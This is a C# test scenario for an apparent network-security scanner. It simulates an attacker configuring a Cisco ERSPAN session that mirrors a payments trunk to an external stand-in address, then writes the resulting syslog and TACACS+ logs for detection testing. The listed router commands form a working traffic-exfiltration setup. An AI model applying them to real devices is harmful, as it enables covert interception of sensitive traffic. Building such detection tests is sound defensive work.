using System.Globalization;
using System.Text;
using PostureScan.Core.Findings;
using PostureScan.Emulator.Simulation;

namespace PostureScan.Validation;

/// <summary>
/// Test 4, Cisco IOS ERSPAN: an adversary with a network admin's TACACS+ account configures an ERSPAN source
/// session on the internet edge router that sends the payments trunk to an address outside the company. The
/// router's configuration changes, its syslog records each command (%PARSER-5-CFGLOG_LOGGEDCMD, then
/// %SYS-5-CONFIG_I) and the TACACS+ server records command accounting with the user, time and device address.
/// </summary>
internal sealed class CiscoScenario : IAdversaryScenario
{
    private const string Device = "edge-rtr1";
    private const string DeviceAddress = "10.20.0.1";
    private const string Session = "edge-rtr1/session/9";
    private const string Delivery = "device syslog (%PARSER-5-CFGLOG_LOGGEDCMD) and TACACS+ command accounting";
    private static readonly SimulatedCaller Adversary = new("mallory", "203.0.113.80");

    /// <summary>The commands typed in configuration mode, as the router logs them.</summary>
    private static readonly string[] Commands =
    [
        "monitor session 9 type erspan-source",
        "source interface GigabitEthernet0/0/1 both",
        "no shutdown",
        "destination",
        "erspan-id 99",
        "ip address 203.0.113.50",
        "origin ip address 192.0.2.10",
    ];

    public string Name => "cisco";

    public PlayedScenario Play(ValidationEstate estate)
    {
        var calls = new List<PlayedCall>();
        var syslog = new StringBuilder();
        var accounting = new StringBuilder();
        var sequence = 88210;
        foreach (var command in Commands)
        {
            var time = estate.Clock.GetUtcNow();
            sequence++;
            syslog.Append(CultureInfo.InvariantCulture,
                $"<189>{sequence}: {Device}: {Stamp(time, withYear: true)}: %PARSER-5-CFGLOG_LOGGEDCMD: User:{Adversary.Actor}  logged command:{command}\n");
            accounting.Append(CultureInfo.InvariantCulture,
                $"{Stamp(time, withYear: false)}\t{DeviceAddress}\t{Adversary.Actor}\ttty3\t{Adversary.SourceIp}\tstop\ttask_id={sequence - 88000}\ttimezone=UTC\tservice=shell\tpriv-lvl=15\tcmd={command} <cr>\n");
            calls.Add(new PlayedCall(command, Session, Truncate(time), $"{Device}/syslog/{sequence}", Delivery, time));
            estate.Clock.Advance(TimeSpan.FromSeconds(4));
        }

        var end = estate.Clock.GetUtcNow();
        syslog.Append(CultureInfo.InvariantCulture,
            $"<189>{sequence + 1}: {Device}: {Stamp(end, withYear: true)}: %SYS-5-CONFIG_I: Configured from console by {Adversary.Actor} on vty0 ({Adversary.SourceIp})\n");
        WriteConfiguration(Path.Combine(estate.Devices, Device + ".cfg"));
        File.AppendAllText(Path.Combine(estate.DeviceLogs, Device + ".syslog.log"), syslog.ToString());
        File.AppendAllText(Path.Combine(estate.DeviceLogs, "tacacs-acct.log"), accounting.ToString());
        estate.Clock.Advance(TimeSpan.FromSeconds(5));

        return new PlayedScenario(
            Name,
            "Cisco IOS ERSPAN session",
            Adversary,
            calls,
            Session,
            [],
            [
                new ExpectedFinding("destination-internet-facing", Session, Severity.Critical),
                new ExpectedFinding("unapproved-destination", Session, Severity.High),
                new ExpectedFinding("created-by-unapproved-principal", Session, Severity.High),
                new ExpectedFinding("created-from-unapproved-network", Session, Severity.High),
                new ExpectedFinding("accept-all-filter", Session, Severity.Medium),
            ],
            [new DetectInput("device syslog and TACACS+ files", [estate.DeviceLogs])],
            ["core-sw1/session/1"],
            []);
    }

    /// <summary>The running-config after the change: the new session before the final "end".</summary>
    private static void WriteConfiguration(string path)
    {
        var config = File.ReadAllText(path);
        var session = "monitor session 9 type erspan-source\n description perf-baseline\n source interface GigabitEthernet0/0/1 both\n no shutdown\n"
            + " destination\n  erspan-id 99\n  ip address 203.0.113.50\n  origin ip address 192.0.2.10\n!\n";
        var at = config.LastIndexOf("end", StringComparison.Ordinal);
        File.WriteAllText(path, at < 0 ? config + session : config[..at] + session + config[at..]);
    }

    /// <summary>IOS's "service timestamps log datetime msec year" form, e.g. "Nov 28 2026 03:52:40.220" (UTC).</summary>
    internal static string Stamp(DateTimeOffset time, bool withYear) =>
        time.UtcDateTime.ToString(withYear ? "MMM dd yyyy HH:mm:ss.fff" : "MMM dd HH:mm:ss", CultureInfo.InvariantCulture);

    private static DateTimeOffset Truncate(DateTimeOffset time) => new(time.Ticks - (time.Ticks % TimeSpan.TicksPerMillisecond), TimeSpan.Zero);
}
